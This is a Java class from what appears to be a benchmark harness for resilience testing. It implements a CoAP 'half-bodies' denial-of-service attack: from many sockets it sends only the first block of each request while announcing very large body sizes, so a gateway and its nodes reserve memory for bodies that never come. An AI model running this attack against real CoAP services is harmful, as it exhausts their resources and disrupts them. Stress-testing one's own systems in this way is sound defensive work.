package dev.ballast.bench.attack;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.util.Locale;
import java.util.concurrent.TimeUnit;

/** Sends only the first block of bodies, each from a port of its own, to the gateway and to every node. */
final class HalfBodies implements Attack {
    private static final int SOCKETS = 60;

    /** What a gateway takes. Sizes are halved from here on, so that they fill all the room there is. */
    private static final int LARGEST = 16 << 20;

    private static final int SIZES = 13;

    private final int bodies;
    private int body;

    HalfBodies(int bodies) {
        this.bodies = bodies;
    }

    @Override
    public String label() {
        return "half-bodies";
    }

    @Override
    public int steps() {
        return bodies;
    }

    @Override
    public void run(AttackTarget target, EvenSteps pace, Tally tally) throws IOException, InterruptedException {
        try (Datagrams sockets = Datagrams.open(Sources.attackers(), SOCKETS)) {
            while (pace.next()) {
                int socket = body % SOCKETS;
                boolean toGateway = body % 2 == 0;
                InetSocketAddress peer = toGateway
                        ? target.gateway()
                        : target.nodes().get(body / 2 % target.nodes().size());
                sockets.replace(socket, tally);
                sockets.send(
                        socket,
                        first(
                                        toGateway,
                                        toGateway
                                                ? body / 2
                                                : body / 2 / target.nodes().size())
                                .datagram(true, body & 0xFFFF, body),
                        peer);
                tally.sent();
                body++;
            }
            while (pace.leftNs() > 0) {
                TimeUnit.MILLISECONDS.sleep(50);
                sockets.drain(tally);
            }
        }
    }

    /** The first two at a server announce the largest body, the next ones smaller and smaller, and one in so many nothing. */
    private CoapRequest first(boolean toGateway, int before) {
        CoapRequest request = toGateway
                ? new CoapRequest(CoapRequest.POST, AttackTarget.INFER)
                : new CoapRequest(CoapRequest.PUT, "parts", String.format(Locale.ROOT, "%064x", body));
        request.option(CoapRequest.CONTENT_FORMAT, CoapRequest.CBOR)
                .block1(0, true)
                .payload(new byte[CoapRequest.BLOCK_BYTES]);
        int halved = Math.max(0, before - 1) % (SIZES + 1);
        return halved == SIZES ? request : request.option(CoapRequest.SIZE1, LARGEST >> halved);
    }
}
